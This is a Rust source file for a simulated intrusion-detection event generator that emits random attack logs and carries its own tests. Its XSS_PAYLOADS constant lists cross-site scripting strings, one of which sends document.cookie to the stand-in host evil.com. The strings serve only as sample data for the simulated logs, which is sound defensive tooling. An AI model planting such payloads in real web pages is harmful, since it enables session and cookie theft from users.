//! # Attack Log Generator
//!
//! Simulated IDS producer: random addresses and ports, sampled payloads and
//! weighted threat level / status selection.

use kanshi_core::{AttackLog, AttackStatus, ThreatLevel};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::time::Duration;

use crate::config::{GeneratorConfig, LevelWeights, StatusWeights};
use crate::error::StreamError;

/// Payload samples that trip the XSS classifier
pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<script>document.cookie</script>",
    "<img src=x onerror=alert('pwned')>",
    "<svg/onload=alert('XSS')>",
    "<iframe src=javascript:alert('XSS')>",
    "<body onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "<script>fetch('https://evil.com?cookie='+document.cookie)</script>",
];

/// Ordinary request payloads
pub const NORMAL_PAYLOADS: &[&str] = &[
    "GET /api/users",
    "POST /api/login",
    "SELECT * FROM users",
    "GET /api/products?id=123",
    "PUT /api/users/456",
    "DELETE /api/sessions/789",
    "GET /health",
    "POST /api/orders",
    "GET /api/dashboard",
    "PATCH /api/settings",
    "GET /static/css/main.css",
    "POST /api/comments",
    "GET /api/notifications",
    "WebSocket connection established",
    "GET /favicon.ico",
];

/// Categories with selection weights, walked in order against a uniform draw
#[derive(Debug, Clone)]
pub struct CategoryWeights<T> {
    entries: Vec<(T, f64)>,
}

impl<T> CategoryWeights<T> {
    /// Pick the first category whose cumulative weight exceeds `draw`.
    /// Falls back to the first category when the weights sum below `draw`.
    pub fn pick(&self, draw: f64) -> &T {
        let mut cumulative = 0.0;
        for (category, weight) in &self.entries {
            cumulative += weight;
            if draw < cumulative {
                return category;
            }
        }
        &self.entries[0].0
    }
}

impl From<LevelWeights> for CategoryWeights<ThreatLevel> {
    fn from(w: LevelWeights) -> Self {
        Self {
            entries: vec![
                (ThreatLevel::Info, w.info),
                (ThreatLevel::Warning, w.warning),
                (ThreatLevel::Critical, w.critical),
            ],
        }
    }
}

impl From<StatusWeights> for CategoryWeights<AttackStatus> {
    fn from(w: StatusWeights) -> Self {
        Self {
            entries: vec![
                (AttackStatus::Blocked, w.blocked),
                (AttackStatus::Success, w.success),
                (AttackStatus::Pending, w.pending),
            ],
        }
    }
}

/// Random attack log producer
#[derive(Debug, Clone)]
pub struct EventGenerator {
    rng: StdRng,
    levels: CategoryWeights<ThreatLevel>,
    statuses: CategoryWeights<AttackStatus>,
    xss_ratio: f64,
    min_delay_ms: u64,
    max_delay_ms: u64,
}

impl EventGenerator {
    pub fn new(config: &GeneratorConfig) -> Result<Self, StreamError> {
        config.validate()?;

        let rng = match config.seed {
            Some(seed) => StdRng::seed_from_u64(seed),
            None => StdRng::from_os_rng(),
        };

        Ok(Self {
            rng,
            levels: config.level_weights.into(),
            statuses: config.status_weights.into(),
            xss_ratio: config.xss_ratio,
            min_delay_ms: config.min_delay_ms,
            max_delay_ms: config.max_delay_ms,
        })
    }

    /// Produce one log stamped with `now_ms`
    pub fn generate(&mut self, now_ms: i64) -> AttackLog {
        let id = uuid::Builder::from_random_bytes(self.rng.random()).into_uuid();
        let level = self.levels.pick(self.rng.random::<f64>()).clone();
        let status = self.statuses.pick(self.rng.random::<f64>()).clone();

        AttackLog {
            id: id.to_string(),
            timestamp: now_ms,
            source_ip: self.random_ip(),
            target_port: self.rng.random_range(1..=u16::MAX),
            payload: self.random_payload().to_string(),
            level,
            status,
        }
    }

    /// Delay before the next event, uniform in `[min_delay_ms, max_delay_ms)`
    pub fn next_delay(&mut self) -> Duration {
        let millis = if self.max_delay_ms > self.min_delay_ms {
            self.rng.random_range(self.min_delay_ms..self.max_delay_ms)
        } else {
            self.min_delay_ms
        };
        Duration::from_millis(millis)
    }

    fn random_ip(&mut self) -> String {
        let octets: [u8; 4] = self.rng.random();
        std::net::Ipv4Addr::from(octets).to_string()
    }

    fn random_payload(&mut self) -> &'static str {
        let pool = if self.rng.random::<f64>() < self.xss_ratio {
            XSS_PAYLOADS
        } else {
            NORMAL_PAYLOADS
        };
        pool[self.rng.random_range(0..pool.len())]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seeded(seed: u64) -> EventGenerator {
        EventGenerator::new(&GeneratorConfig {
            seed: Some(seed),
            ..GeneratorConfig::default()
        })
        .unwrap()
    }

    #[test]
    fn test_pick_walks_cumulative_weights() {
        let levels: CategoryWeights<ThreatLevel> = LevelWeights::default().into();
        assert_eq!(levels.pick(0.0), &ThreatLevel::Info);
        assert_eq!(levels.pick(0.59), &ThreatLevel::Info);
        assert_eq!(levels.pick(0.6), &ThreatLevel::Warning);
        assert_eq!(levels.pick(0.85), &ThreatLevel::Warning);
        assert_eq!(levels.pick(0.95), &ThreatLevel::Critical);
    }

    #[test]
    fn test_pick_falls_back_to_first_category() {
        let statuses: CategoryWeights<AttackStatus> = StatusWeights {
            blocked: 0.2,
            success: 0.2,
            pending: 0.2,
        }
        .into();
        assert_eq!(statuses.pick(0.9), &AttackStatus::Blocked);
    }

    #[test]
    fn test_seeded_generators_are_reproducible() {
        let mut a = seeded(42);
        let mut b = seeded(42);
        for _ in 0..20 {
            assert_eq!(a.generate(1_000), b.generate(1_000));
            assert_eq!(a.next_delay(), b.next_delay());
        }
    }

    #[test]
    fn test_generated_fields() {
        let mut generator = seeded(7);
        for _ in 0..200 {
            let log = generator.generate(5_000);
            assert_eq!(log.timestamp, 5_000);
            assert!(log.target_port >= 1);
            assert!(log.source_ip.parse::<std::net::Ipv4Addr>().is_ok());
            assert!(log.level.is_recognized());
            assert!(log.status.is_recognized());
            assert!(XSS_PAYLOADS.contains(&log.payload.as_str()) || NORMAL_PAYLOADS.contains(&log.payload.as_str()));
            assert!(uuid::Uuid::parse_str(&log.id).is_ok());
        }
    }

    #[test]
    fn test_delay_range() {
        let mut generator = seeded(3);
        for _ in 0..200 {
            let delay = generator.next_delay().as_millis();
            assert!((50..200).contains(&delay));
        }
    }

    #[test]
    fn test_fixed_delay_when_range_is_empty() {
        let mut generator = EventGenerator::new(&GeneratorConfig {
            min_delay_ms: 10,
            max_delay_ms: 10,
            seed: Some(1),
            ..GeneratorConfig::default()
        })
        .unwrap();
        assert_eq!(generator.next_delay(), Duration::from_millis(10));
    }

    #[test]
    fn test_weights_shape_the_stream() {
        let mut generator = seeded(11);
        let logs: Vec<AttackLog> = (0..5_000).map(|_| generator.generate(0)).collect();
        let info = logs.iter().filter(|l| l.level == ThreatLevel::Info).count();
        let blocked = logs.iter().filter(|l| l.status == AttackStatus::Blocked).count();
        // 60% and 70% with generous tolerance
        assert!((2_700..3_300).contains(&info), "info = {}", info);
        assert!((3_200..3_800).contains(&blocked), "blocked = {}", blocked);
    }

    #[test]
    fn test_rejects_invalid_config() {
        let config = GeneratorConfig {
            xss_ratio: 1.5,
            ..GeneratorConfig::default()
        };
        assert!(EventGenerator::new(&config).is_err());
    }

    proptest::proptest! {
        #[test]
        fn prop_any_seed_yields_valid_logs(seed in proptest::num::u64::ANY, now in 0i64..4_000_000_000_000) {
            let log = seeded(seed).generate(now);
            proptest::prop_assert!(log.validate().is_ok());
            proptest::prop_assert!(log.level.is_recognized());
            proptest::prop_assert!(log.status.is_recognized());
            proptest::prop_assert_eq!(log.timestamp, now);
        }

        #[test]
        fn prop_pick_always_returns_a_category(draw in 0.0f64..1.0) {
            let levels: CategoryWeights<ThreatLevel> = LevelWeights::default().into();
            proptest::prop_assert!(levels.pick(draw).is_recognized());
        }
    }
}
